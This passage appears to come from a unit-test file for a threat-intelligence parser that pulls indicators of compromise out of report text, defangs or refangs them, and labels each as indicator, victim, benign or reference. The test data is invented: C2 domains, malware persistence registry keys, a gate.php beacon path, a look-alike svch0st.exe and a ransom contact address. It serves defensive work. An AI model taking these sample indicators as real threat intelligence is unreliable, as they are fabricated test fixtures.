    'indicator registry HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\Quiet',
  ],
  [
    'registry with blanks',
    'HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon',
    'indicator registry HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon',
  ],
  ['registry of PowerShell', 'HKCU:\\Software\\Classes\\quiet', 'indicator registry HKCU:\\Software\\Classes\\quiet'],
  ['a path', 'C:\\Windows\\System32\\svch0st.exe', 'indicator file svch0st.exe'],
  ['handles', 'Thanks @palefinch, @tin_otter and @small.lab!', 'credit handle @palefinch', 'credit handle @tin_otter'],
  ['a handle of Mastodon', 'via @palefinch@infosec.exchange', 'credit handle @palefinch@infosec.exchange'],
  [
    'a magnet',
    'magnet:?xt=urn:btih:1f40fc92da241694750979ee6cf582f2d5d7d28e&tr=udp://tracker.tin-otter.net:80',
    'reference sha1 1f40fc92da241694750979ee6cf582f2d5d7d28e',
  ],
];

const HABIT = 'C2: one-quiet[.]top, two-quiet[.]top, three-quiet[.]top.\n\n';
const QUIET = ['indicator domain one-quiet.top', 'indicator domain two-quiet.top', 'indicator domain three-quiet.top'] as const;

const ROLES: readonly Case[] = [
  ['a path of the enemy', 'The loader sends a POST request to /q/gate.php with the name of the host.', 'indicator uri-path /q/gate.php'],
  [
    'a path of a service that is attacked',
    'Attackers exploit the vulnerable endpoint /cgi-bin/kerbynet?Action=x',
    'victim uri-path /cgi-bin/kerbynet?Action=x',
  ],
  ['a path of an interface that is described', 'The documentation of the REST API says: GET /users/{id}', 'reference uri-path /users/{id}'],
  [
    'an attack of which another sentence speaks',
    'It asks GET /q/beat first. They exploit CVE-2023-4966.',
    'indicator uri-path /q/beat',
    'reference cve CVE-2023-4966',
  ],
  ['a path that is harmless', 'Requests to the legitimate endpoint /generate_204 are made first.', 'benign uri-path /generate_204'],
  ['a path in words and in code', 'beacons to `/c2/beacon` and drops `/tmp/beacon`', 'indicator uri-path /c2/beacon'],
  ['further reading', `${HABIT}## References\n* https://blog.small-lab.net/quiet\n`, ...QUIET, 'reference url https://blog.small-lab.net/quiet'],
  [
    'a live link of an author who defangs',
    `${HABIT}We wrote about it at https://blog.small-lab.net/quiet before.`,
    ...QUIET,
    'reference url https://blog.small-lab.net/quiet',
  ],
  [
    'the title says nothing about what stands below',
    '# Four domains\n\nWritten up on\nFOFA, https://medium.com/@tinotter/cold-rain',
    'reference url https://medium.com/@tinotter/cold-rain',
  ],
  [
    'a first heading that is no title',
    '# Targeted banks\n* first-bank.top\n\n# C2\n* coldrain.top\n',
    'victim domain first-bank.top',
    'indicator domain coldrain.top',
  ],
  ['numbered notes', `${HABIT}[1] https://blog.small-lab.net/quiet\n`, ...QUIET, 'reference url https://blog.small-lab.net/quiet'],
  ['targets', '## Targeted banks\n\n- first-bank.top\n- second-bank.top\n', 'victim domain first-bank.top', 'victim domain second-bank.top'],
  ['victims in a sentence', 'The page, impersonating first-bank.top, asks for a code.', 'victim domain first-bank.top'],
  ['abused services', '## Legitimate services abused\n\n- notes-app[.]top\n', 'benign domain notes-app.top'],
  [
    'reserved names are said to be harmless, not passed over',
    'example.com, foo.test, printer.local, a.example, b.invalid, http://c2.foo.test/gate.php and joe@mail.example',
    'benign domain example.com',
    'benign domain foo.test',
    'benign domain printer.local',
    'benign domain a.example',
    'benign domain b.invalid',
    'benign url http://c2.foo.test/gate.php',
    'benign email joe@mail.example',
  ],
  ['a defanged ending that does not exist', 'hxxp://coldrain[.]notanending/a', 'benign url http://coldrain.notanending/a'],
  ['a defanged file', 'It drops update[.]exe', 'indicator file update.exe'],
  ['credentials of a host', 'user:secret@coldrain.top:8080', 'indicator domain coldrain.top port 8080'],
  ['credentials with a sign of mail', 'hxxp://joe@x.org:pw@coldrain[.]top/a', 'indicator url http://joe@x.org:pw@coldrain.top/a'],
  ['a mail address behind its scheme', 'mailto:joe@coldrain[.]top', 'indicator email joe@coldrain.top'],
  ['a name that a line break divides behind its dot', 'It asks c2.cold-rain.\ntop for more', 'indicator domain c2.cold-rain.top'],
  ['a sentence that ends there', 'It asks the server.\ntop of the list'],
  ['updates of a system', 'It first asks www.msftconnecttest[.]com', 'benign domain www.msftconnecttest.com'],
  ['authorities of certificates', 'OCSP - URI:http://ocsp.digicert.com', 'reference url http://ocsp.digicert.com'],
  ['what is my address', 'It asks api.ipify[.]org for its own address', 'benign domain api.ipify.org'],
  ['mail of a company that everybody knows', 'It came from support@microsoft.com, it said.', 'benign email support@microsoft.com'],
  ['free mail', 'It came from cold.rain@gmail.com, it said.', 'indicator email cold.rain@gmail.com'],
  ['who to write to', 'Questions? Write to intel@small-lab.net', 'reference email intel@small-lab.net'],
  ['who wants the money', 'Contact: quiet.decrypt@proton[.]me', 'indicator email quiet.decrypt@proton.me'],
];

function found(text: string): string[] {
  return readReport(text, { definitions: catalogue.indicators, refang }).indicators.map(
    ({ role, type, value, port }) => `${role} ${type} ${value}${port === undefined ? '' : ` port ${port}`}`,
  );
}

for (const [what, cases] of Object.entries({ DEFANGED, NUMBERS, NAMES, LINKS, MORE_LINKS, CLICKED, OTHERS, ROLES }))
  describe(`hard cases: ${what.toLowerCase()}`, () => {
    for (const [why, text, ...expected] of cases) it(why, () => expect(found(text)).toEqual(expected));
  });

describe('hard cases: everywhere', () => {
  it('what stands at the offsets is what was written, and offsets are in order', () => {
    for (const [, text] of [...DEFANGED, ...NUMBERS, ...NAMES, ...LINKS, ...MORE_LINKS, ...CLICKED, ...OTHERS, ...ROLES]) {
      let last = 0;
      for (const one of readReport(text, { definitions: catalogue.indicators, refang }).indicators) {
        expect(one.start).toBeGreaterThanOrEqual(last);
        expect(one.end).toBeGreaterThan(one.start);
        expect(text.slice(one.start, one.end)).toBe(one.written);
        expect(one.reason).not.toBe('');
        last = one.start;
      }
    }
  });

  it('windows line ends, a text before and a text behind change nothing', () => {
    for (const [why, text, ...expected] of [...DEFANGED, ...LINKS])
      expect([why, ...found(`Words of an introduction.\r\n\r\n${text}\r\n\r\nWords at the end.\r\n`)]).toEqual([why, ...expected]);
  });

  it('a warning list makes a value harmless, or says that many share it', () => {
    const warnings = indexWarningLists([{ name: 'Well known', type: 'hostname', list: ['tin-otter.net'] }]);
    const { indicators } = readReport('coldrain[.]top, a.tin-otter[.]net, xtin-otter[.]net', { definitions: catalogue.indicators, refang, warnings });
    expect(indicators.map(({ role, benign, value }) => `${role} ${benign} ${value}`)).toEqual([
      'indicator false coldrain.top',
      'benign true a.tin-otter.net',
      'indicator false xtin-otter.net',
    ]);
  });
});
